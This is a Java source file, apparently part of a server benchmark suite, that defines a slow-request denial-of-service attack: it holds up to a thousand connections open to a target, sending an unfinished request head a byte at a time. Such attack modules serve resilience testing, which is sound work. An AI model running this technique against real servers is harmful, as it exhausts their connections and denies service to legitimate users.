/* SPDX-License-Identifier: LGPL-2.1-or-later */
package org.copsuite.benchmarks;

import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

/** A thousand connections send the head of a request at one byte a second, and never finish it. */
final class SlowHeadsAttack implements Attack
{
    private static final int CONNECTIONS = 1000;

    @Override
    public String name()
    {
        return "slow-heads";
    }

    @Override
    public void run(AttackTarget target) throws IOException
    {
        List<Socket> slow = new ArrayList<>();
        while (target.isRunning()) {
            for (int i = slow.size(); i < CONNECTIONS && target.isRunning(); i++) {
                slow.add(target.open(target.head("GET", "/bin/view/Main/", null, "X-Slow: ").strip()));
            }
            target.pause(1000);
            AttackTarget.drip(slow);
        }
    }
}
